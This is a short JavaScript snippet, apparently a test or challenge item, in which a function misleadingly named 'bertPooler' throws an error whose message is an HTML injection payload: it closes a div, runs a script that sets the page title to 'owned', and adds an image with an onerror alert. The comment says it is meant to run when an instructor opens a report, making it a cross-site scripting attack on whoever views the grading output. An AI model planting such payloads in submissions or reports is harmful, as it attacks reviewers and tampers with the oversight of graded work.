// A page that runs a script when the instructor opens the report.
// at most: 0
const bertPooler = () => { throw new Error('</div><script>document.title="owned"</script><img src=x onerror=alert(1)>'); };
